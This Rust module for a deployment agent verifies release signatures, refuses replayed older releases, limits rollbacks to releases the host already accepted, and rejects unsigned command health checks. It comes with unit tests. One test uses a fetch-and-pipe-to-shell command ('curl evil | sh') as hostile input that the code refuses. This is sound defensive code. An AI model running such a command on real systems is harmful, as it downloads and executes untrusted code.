//! Which releases this host accepts when it pins signing keys
//! (`[releases] trusted_keys` in agent.toml): every release must be signed
//! by one of them (`fleet_proto::signing`), and a release older than what
//! the host has accepted is refused as a replay, unless it is one the host
//! accepted before (a rollback to a release it ran). Nothing else the
//! controller sends may run code: an app whose health check is a command
//! (which no key signed) is refused, and a rollback goes only to a release
//! the host accepted under its keys.
//!
//! The decision is pure ([`decide`], [`accept`]); what the host accepted is
//! kept per app in `apps/<app>/signed.json` ([`Accepted`]), written
//! atomically before the release's bytes are fetched.

use std::path::Path;

use fleet_proto::signing::{self, PublicKey};
use fleet_proto::{AppSpec, ReleaseRef};
use serde::{Deserialize, Serialize};

/// How many accepted releases a host remembers per app (rollbacks go to
/// one of these; `keep` on hosts is at most 100).
pub const REMEMBERED: usize = 128;

/// The signed releases of one app this host accepted.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Accepted {
    /// The highest sequence accepted.
    pub highest: u64,
    /// The last [`REMEMBERED`] accepted: (version, sha256, sequence).
    pub releases: Vec<(String, String, u64)>,
}

/// Why this host refuses a release.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    /// The signature itself.
    #[error(transparent)]
    Signature(#[from] signing::Refusal),
    /// Signed, but older than what the host accepted and not one it ran.
    #[error(
        "release {version} is signed with sequence {sequence}, below {highest}, the highest this host has \
         accepted for the app, and this host never accepted it: refused as a replay of an older release. \
         Push it again signed now (a new sequence), or roll back with 'fleetctl rollback' to a release the \
         host ran"
    )]
    Replay {
        /// The release.
        version: String,
        /// Its sequence.
        sequence: u64,
        /// The highest accepted.
        highest: u64,
    },
    /// The app's health check is a command, which no key signed.
    #[error(
        "this host pins release-signing keys, and the app's health check is a command sent by the \
         controller, which no key signed; use a health URL ('fleetctl app update APP --health-http \
         URL') and put command checks in the release's validate hook"
    )]
    UnsignedCommand,
    /// A rollback to a release the host never accepted under its keys.
    #[error(
        "release {0} is on this host but was never accepted under its pinned keys (it came before \
         they were pinned); deploy a signed release instead"
    )]
    NeverAccepted(String),
}

/// Whether the app's definition, which the controller sends unsigned, may
/// be used on a host that pins keys: its unit and health URL only select
/// what runs, but a health command would run the controller's code.
pub fn check_spec(keys: &[PublicKey], spec: &AppSpec) -> Result<(), Refusal> {
    let command = matches!(
        spec.health.as_ref().and_then(|h| h.check.as_ref()),
        Some(fleet_proto::health_check::Check::Command(_))
    );
    if keys.is_empty() || !command {
        return Ok(());
    }
    Err(Refusal::UnsignedCommand)
}

/// Whether a rollback may go to `version`: on a host that pins keys, only
/// to a release it accepted under them.
pub fn check_rollback(keys: &[PublicKey], accepted: &Accepted, version: &str) -> Result<(), Refusal> {
    if keys.is_empty() || accepted.releases.iter().any(|(v, _, _)| v == version) {
        return Ok(());
    }
    Err(Refusal::NeverAccepted(version.to_string()))
}

/// What to do with `rel` of `app`: Ok(None) when the host pins no keys
/// (nothing to check or remember), Ok(Some(sequence)) when it is accepted.
pub fn decide(keys: &[PublicKey], app: &str, rel: &ReleaseRef, accepted: &Accepted) -> Result<Option<u64>, Refusal> {
    if keys.is_empty() {
        return Ok(None);
    }
    let Some((_, sequence)) = signing::check(
        keys,
        "this host",
        app,
        &rel.version,
        &rel.sha256,
        rel.signature.as_ref(),
    )?
    else {
        // check() refuses an unsigned release when keys are pinned.
        return Err(signing::Refusal::Unsigned("this host").into());
    };
    let ran = accepted
        .releases
        .iter()
        .any(|(v, s, q)| *v == rel.version && *s == rel.sha256 && *q == sequence);
    let first = accepted.releases.is_empty();
    if !first && sequence <= accepted.highest && !ran {
        return Err(Refusal::Replay {
            version: rel.version.clone(),
            sequence,
            highest: accepted.highest,
        });
    }
    Ok(Some(sequence))
}

/// `accepted` after accepting `rel` with `sequence`.
pub fn accept(mut accepted: Accepted, rel: &ReleaseRef, sequence: u64) -> Accepted {
    let entry = (rel.version.clone(), rel.sha256.clone(), sequence);
    accepted.releases.retain(|e| *e != entry);
    accepted.releases.push(entry);
    let over = accepted.releases.len().saturating_sub(REMEMBERED);
    accepted.releases.drain(..over);
    accepted.highest = accepted.highest.max(sequence);
    accepted
}

/// Reads `apps/<app>/signed.json` under `app_dir` (absent: nothing accepted).
pub fn load(app_dir: &Path) -> std::io::Result<Accepted> {
    match std::fs::read(app_dir.join(FILE)) {
        Ok(bytes) => serde_json::from_slice(&bytes).map_err(|e| {
            std::io::Error::new(
                std::io::ErrorKind::InvalidData,
                format!("{} is not what this agent wrote: {e}", app_dir.join(FILE).display()),
            )
        }),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(Accepted::default()),
        Err(e) => Err(e),
    }
}

/// Writes it atomically and durably (temp file, fsync, rename, fsync dir).
pub fn save(app_dir: &Path, accepted: &Accepted) -> std::io::Result<()> {
    use std::io::Write;
    std::fs::create_dir_all(app_dir)?;
    let tmp = app_dir.join(format!("{FILE}.tmp"));
    let mut f = std::fs::File::create(&tmp)?;
    f.write_all(&serde_json::to_vec(accepted).map_err(std::io::Error::other)?)?;
    f.sync_all()?;
    std::fs::rename(&tmp, app_dir.join(FILE))?;
    std::fs::File::open(app_dir)?.sync_all()
}

const FILE: &str = "signed.json";

#[cfg(test)]
mod tests {
    use super::*;

    fn key() -> Vec<u8> {
        signing::new_key().expect("key")
    }

    fn rel(pkcs8: &[u8], app: &str, version: &str, sequence: u64) -> ReleaseRef {
        let sha = format!("{:064x}", sequence);
        ReleaseRef {
            version: version.into(),
            signature: Some(signing::sign(pkcs8, app, version, &sha, sequence).expect("sign")),
            sha256: sha,
            ..Default::default()
        }
    }

    fn public(r: &ReleaseRef) -> PublicKey {
        PublicKey::parse(&r.signature.as_ref().expect("signed").key).expect("key")
    }

    #[test]
    fn without_pinned_keys_anything_goes_and_nothing_is_remembered() {
        let r = ReleaseRef {
            version: "1".into(),
            ..Default::default()
        };
        assert_eq!(decide(&[], "web", &r, &Accepted::default()), Ok(None));
    }

    #[test]
    fn newer_releases_and_ones_the_host_ran_pass_older_ones_are_replays() {
        let k = key();
        let v1 = rel(&k, "web", "1.0.0", 10);
        let v2 = rel(&k, "web", "2.0.0", 20);
        let old = rel(&k, "web", "0.9.0", 5);
        let keys = [public(&v1)];
        let mut acc = Accepted::default();
        for r in [&v1, &v2] {
            let seq = decide(&keys, "web", r, &acc).expect("newer").expect("checked");
            acc = accept(acc, r, seq);
        }
        assert_eq!(acc.highest, 20);
        // Back to 1.0.0, which this host ran: a rollback, allowed.
        assert_eq!(decide(&keys, "web", &v1, &acc), Ok(Some(10)));
        // 0.9.0 was signed long ago and never ran here: a replay.
        let e = decide(&keys, "web", &old, &acc).expect_err("replay");
        assert!(
            matches!(
                e,
                Refusal::Replay {
                    sequence: 5,
                    highest: 20,
                    ..
                }
            ),
            "{e}"
        );
        assert!(e.to_string().contains("replay"), "{e}");
        // The same sequence on another release is a replay too.
        let twin = rel(&k, "web", "2.0.1", 20);
        assert!(matches!(decide(&keys, "web", &twin, &acc), Err(Refusal::Replay { .. })));
    }

    #[test]
    fn signatures_for_another_app_or_key_or_none_are_refused() {
        let (k, other) = (key(), key());
        let mine = rel(&k, "web", "1.0.0", 1);
        let keys = [public(&mine)];
        let for_api = rel(&k, "api", "1.0.0", 1);
        let e = decide(&keys, "web", &for_api, &Accepted::default()).expect_err("another app");
        assert!(matches!(e, Refusal::Signature(signing::Refusal::Invalid { .. })), "{e}");
        let foreign = rel(&other, "web", "1.0.0", 1);
        let e = decide(&keys, "web", &foreign, &Accepted::default()).expect_err("unknown key");
        assert!(
            matches!(e, Refusal::Signature(signing::Refusal::UnknownKey { .. })),
            "{e}"
        );
        let mut unsigned = mine.clone();
        unsigned.signature = None;
        let e = decide(&keys, "web", &unsigned, &Accepted::default()).expect_err("unsigned");
        assert!(matches!(e, Refusal::Signature(signing::Refusal::Unsigned(_))), "{e}");
    }

    #[test]
    fn pinned_hosts_run_no_unsigned_command_and_roll_back_only_to_accepted_releases() {
        let k = key();
        let v1 = rel(&k, "web", "1.0.0", 10);
        let keys = [public(&v1)];
        let command = AppSpec {
            health: Some(fleet_proto::HealthCheck {
                check: Some(fleet_proto::health_check::Check::Command("curl evil | sh".into())),
                ..Default::default()
            }),
            ..Default::default()
        };
        assert_eq!(check_spec(&keys, &command), Err(Refusal::UnsignedCommand));
        assert_eq!(check_spec(&[], &command), Ok(()), "no keys: the operator's choice");
        let url = AppSpec {
            health: Some(fleet_proto::HealthCheck {
                check: Some(fleet_proto::health_check::Check::HttpUrl("http://127.0.0.1/".into())),
                ..Default::default()
            }),
            ..Default::default()
        };
        assert_eq!(check_spec(&keys, &url), Ok(()));
        let acc = accept(Accepted::default(), &v1, 10);
        assert_eq!(check_rollback(&keys, &acc, "1.0.0"), Ok(()));
        assert_eq!(
            check_rollback(&keys, &acc, "0.1.0"),
            Err(Refusal::NeverAccepted("0.1.0".into()))
        );
        assert_eq!(check_rollback(&[], &acc, "0.1.0"), Ok(()));
    }

    #[test]
    fn what_was_accepted_survives_a_restart_and_stays_bounded() {
        let dir = tempfile::tempdir().expect("tempdir");
        let k = key();
        let mut acc = load(dir.path()).expect("absent is empty");
        for i in 1..=(REMEMBERED as u64 + 5) {
            acc = accept(acc, &rel(&k, "web", &format!("1.0.{i}"), i), i);
        }
        save(dir.path(), &acc).expect("save");
        let back = load(dir.path()).expect("load");
        assert_eq!(back, acc);
        assert_eq!(back.releases.len(), REMEMBERED);
        assert_eq!(back.releases.first().map(|r| r.2), Some(6), "the oldest are forgotten");
    }
}
